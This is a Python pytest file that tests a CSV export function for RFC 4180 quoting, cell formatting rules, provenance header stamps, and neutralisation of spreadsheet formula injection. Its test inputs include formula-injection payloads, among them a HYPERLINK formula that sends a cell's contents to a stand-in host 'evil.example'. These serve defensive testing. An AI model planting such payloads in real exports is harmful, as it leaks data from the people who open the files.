"""write_csv: RFC 4180 text, the cell rules, and formula injection neutralised only when asked."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from enum import StrEnum
from uuid import UUID

import pytest

from safety_stream.review.csv_export import neutralise, stamp, write_csv


class Colour(StrEnum):
    RED = "red"


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_cells_are_written_by_the_documented_rules() -> None:
    ae = UUID("12345678-1234-5678-1234-567812345678")
    text = write_csv(
        ["none", "date", "time", "uuid", "enum", "bool", "int", "float", "noise", "nan"],
        [
            [None, date(2026, 3, 1), datetime(2026, 3, 1, 8, 30, tzinfo=UTC), ae, Colour.RED,
             True, 7, 3.0, 0.1 + 0.2, float("nan")],
        ],
        excel_safe=False,
    )  # fmt: skip
    assert text == (
        "none,date,time,uuid,enum,bool,int,float,noise,nan\r\n"
        ",2026-03-01,2026-03-01T08:30:00+00:00,12345678-1234-5678-1234-567812345678,red,"
        "true,7,3,0.3,\r\n"
    )


def test_rfc_4180_quoting_round_trips() -> None:
    awkward = ["a,b", 'say "hi"', "two\nlines", "plain"]
    text = write_csv(["w", "x", "y", "z"], [awkward], excel_safe=False)
    assert text.splitlines()[1].startswith('"a,b","say ""hi""","two')
    assert read_back(text) == [["w", "x", "y", "z"], awkward]


@pytest.mark.parametrize(
    "value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x")', "-A1"]
)
def test_excel_safe_neutralises_a_formula_start(value: str) -> None:
    safe = read_back(write_csv(["v"], [[value]], excel_safe=True))[1][0]
    assert safe == "'" + value
    plain = read_back(write_csv(["v"], [[value]], excel_safe=False))[1][0]
    assert plain == value


@pytest.mark.parametrize("value", [-1.5, -2, "-1.5", "+2", "-3e-05", ".5"])
def test_a_plain_number_stays_a_number_in_excel_safe_mode(value: object) -> None:
    cell = read_back(write_csv(["v"], [[value]], excel_safe=True))[1][0]
    assert not cell.startswith("'")
    assert float(cell) == float(str(value))


def test_a_header_is_neutralised_too_and_a_ragged_row_is_refused() -> None:
    assert write_csv(["=x"], [], excel_safe=True) == "'=x\r\n"
    with pytest.raises(ValueError, match="row 2 has 1 cells; the header has 2 columns"):
        write_csv(["a", "b"], [[1, 2], [3]], excel_safe=False)


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Hepatitis") == "Hepatitis"
    assert neutralise("a=b") == "a=b"


def test_the_stamp_names_what_is_known() -> None:
    full = stamp(42, "ab" * 32, datetime(2026, 3, 1, tzinfo=UTC), date(2026, 2, 28))
    assert full.headers() == {
        "X-Log-Position": "42",
        "X-Chain-Head": "ab" * 32,
        "X-As-Of": "2026-03-01T00:00:00+00:00",
        "X-Cutoff": "2026-02-28",
    }
    assert full.lines()[0] == "# log position: 42"
    site = stamp(None, None, None, date(2026, 2, 28))
    assert site.headers() == {"X-Cutoff": "2026-02-28"}


SEPARATORS = (",", ";", "\t", "\r", "\n")


def pieces(line: str) -> list[str]:
    """Every text that could start a cell when a spreadsheet splits ``line`` at any separator
    it might use (``,`` or ``;`` by locale, tab), ignoring quotes, as a parser that lost track of
    them would; a piece's leading quotes are dropped (a quoted field's text starts after them)."""
    out = [line]
    for separator in SEPARATORS:
        out = [p for part in out for p in part.split(separator)]
    return [p.lstrip('"') for p in out]


NUMBER = re.compile(r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?")


def starts_a_formula(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@")) and NUMBER.fullmatch(text) is None


@pytest.mark.parametrize(
    "value",
    [
        'x;=HYPERLINK("http://evil.example/?d="&A1);y',  # the reviewer's: Excel in a ;-locale
        "x,=1+1",
        "a;+SUM(A1)",
        "note\t@cmd",
        "two\n=lines",
        "cr\r-A1",
        'say;"=1+1"',  # a quoted field after the split: its text starts with =
        "=1;=2;@3",
    ],
)
def test_excel_safe_neutralises_a_formula_after_any_separator_inside_a_cell(value: str) -> None:
    text = write_csv(["v"], [[value]], excel_safe=True)
    body = text.split("\r\n", 1)[1]
    assert not [p for p in pieces(body) if starts_a_formula(p)], body
    # Excel in a locale whose list separator is ";" reading the file
    for row in csv.reader(io.StringIO(body, newline=""), delimiter=";"):
        assert not [f for f in row if starts_a_formula(f.lstrip('"'))], row
    # the raw value is still there without excel-safe mode
    assert read_back(write_csv(["v"], [[value]], excel_safe=False))[1][0] == value


def test_inside_a_cell_only_a_formula_start_after_a_separator_is_touched() -> None:
    assert neutralise("x;=HYPERLINK(1);y") == "x;'=HYPERLINK(1);y"
    assert neutralise("=a;b") == "'=a;b"
    assert neutralise("ALT 3x ULN; -1.5 from baseline") == "ALT 3x ULN; -1.5 from baseline"
    assert neutralise("change;-1.5;+2") == "change;-1.5;+2"  # plain numbers stay numbers
    assert neutralise("a, b; c") == "a, b; c"


@pytest.mark.parametrize("value", ["-\u0663", "+\u0661\u0662", "-1\u0660"])
def test_only_ascii_digits_make_a_plain_number(value: str) -> None:
    # Arabic-Indic digits are not a number to a spreadsheet: the sign starts a formula
    assert neutralise(value) == "'" + value
